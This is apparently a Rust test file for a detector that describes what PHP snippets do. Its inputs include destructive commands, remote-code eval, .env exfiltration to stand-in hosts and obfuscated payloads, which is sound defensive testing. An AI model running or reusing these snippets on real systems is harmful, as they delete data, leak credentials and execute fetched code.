//! PHP.

use super::{Language, check};

#[test]
fn code_takes_its_steps() {
    check(
        Language::Php,
        &[
            ("shell_exec(\"rm -rf ~\");", &["shell rm -rf ~"]),
            ("echo `cat .env`;", &["shell cat .env", "print ?<output of cat .env>"]),
            ("SYSTEM('ls'); \\exec('id'); passthru(\"w\");", &["shell ls", "shell id", "shell w"]),
            ("$p = popen('ls', 'r'); echo fread($p, 10);", &["shell ls", "print ?<output of ls>"]),
            ("unlink('/etc/passwd'); rmdir('x');", &["delete /etc/passwd", "delete x"]),
            ("array_map('unlink', glob('/data/*'));", &["delete /data/*"]),
            ("foreach (glob('*.log') as $f) { unlink($f); }", &["delete *.log"]),
            ("foreach (['a', 'b'] as $k => $f) unlink($f);", &["delete a or b"]),
            ("rename('a', 'b'); copy('.env', 'c');", &["move a b", "read .env", "write c: ?<file .env>"]),
            ("file_put_contents('.env', 'x=' . 1);", &["write .env: x=1"]),
            ("echo file_get_contents('.env');", &["read .env", "print ?<file .env>"]),
            ("$f = fopen('a', 'w'); fwrite($f, 'x'); fclose($f);", &["write a: x"]),
            ("chmod('/etc', 0777);", &["permit /etc 777"]),
            (
                "eval(file_get_contents('https://g.example/x'));",
                &["fetch https://g.example/x", "evaluate ?<https://g.example/x>"],
            ),
            (
                "$c = curl_init('https://c.example'); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('.env')); curl_exec($c);",
                &["fetch https://c.example", "read .env", "send ?<file .env> to https://c.example"],
            ),
            (
                "$c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://g.example'); eval(curl_exec($c));",
                &["fetch https://g.example", "evaluate ?<https://g.example>"],
            ),
            (
                "mail('a@b.example', 's', file_get_contents('.env'));",
                &["read .env", "send s | ?<file .env> to a@b.example"],
            ),
            ("echo getenv('API_KEY'); print_r($_ENV);", &["print ?<$API_KEY>", "print ?<environment>"]),
            ("echo \"k: {$_ENV['KEY']} $_SERVER[TOKEN]\";", &["print k: ? ?<$KEY><$TOKEN>"]),
            ("$db->query('DROP TABLE users');", &["sql DROP TABLE users"]),
            (
                "require 'x.php'; include('https://g.example/y');",
                &["import x.php", "fetch https://g.example/y", "evaluate ?<https://g.example/y>"],
            ),
            ("<html><?php system('ls'); ?> system('x') <?= getenv('A') ?>", &["shell ls"]),
        ],
    );
}

#[test]
fn disguises_are_seen_through() {
    check(
        Language::Php,
        &[
            ("system(base64_decode('cm0gLXJmIH4='));", &["shell rm -rf ~"]),
            ("system(hex2bin('726d202d7266207e'));", &["shell rm -rf ~"]),
            ("system(str_rot13('ez -es /'));", &["shell rm -rf /"]),
            ("system(strrev('/ fr- mr'));", &["shell rm -rf /"]),
            ("$f = 'sys' . 'tem'; $f('ls');", &["shell ls"]),
            ("call_user_func('system', 'ls');", &["shell ls"]),
            ("eval(\"system('ls');\");", &["shell ls"]),
            ("eval(gzinflate(base64_decode('S0ktLg==')));", &["evaluate ?<encoded>"]),
            ("eval(gzinflate(base64_decode('K83LyczL1lBPVNe0BgA=')));", &["delete a"]),
            ("$a = 'rm'; system(\"$a -rf {$b}/\");", &["shell rm -rf ?/"]),
            ("function run($c) { system($c); } run('ls');", &["shell ls"]),
            ("$f = fn($c) => system($c); $f('ls');", &["shell ls"]),
            ("$f = function($c) use ($x) { system($c); }; $f('ls');", &["shell ls"]),
            ("system(implode(' ', ['rm', '-rf', '/']));", &["shell rm -rf /"]),
            ("system(<<<EOT\nls -l\nEOT);", &["shell ls -l\n"]),
            ("class X { public static function go() { \\system('ls'); } } X::go();", &["shell ls"]),
            ("$x = 'a'; $x .= 'b'; system($x);", &["shell ab"]),
        ],
    );
}

#[test]
fn harmless_code_takes_no_steps_or_only_prints() {
    check(
        Language::Php,
        &[
            ("echo strlen('rm -rf /');", &["print ?"]),
            ("// system('ls');\n/* exec('x') */ # unlink('y')\n$x = 1;", &[]),
            ("echo 'system(\"ls\")';", &["print system(\"ls\")"]),
            ("$r = ['cmd' => 'rm -rf /']; echo json_encode($r);", &["print ?"]),
            ("if ($c === 'rm -rf /') { throw new Exception('no'); }", &[]),
            ("echo PHP_VERSION;", &["print ?"]),
            ("echo phpversion(), \"\\n\";", &["print ? \n"]),
            ("class A { public function exec($x) { return $x; } }", &[]),
            ("echo date('Y') / 2;", &["print ?"]),
            ("$x = $y ?: 'rm'; echo $x;", &["print ?"]),
            ("var_dump(array_filter([1, 2]));", &["print ?<crafted>"]),
            ("print('hello');", &["print hello"]),
        ],
    );
}
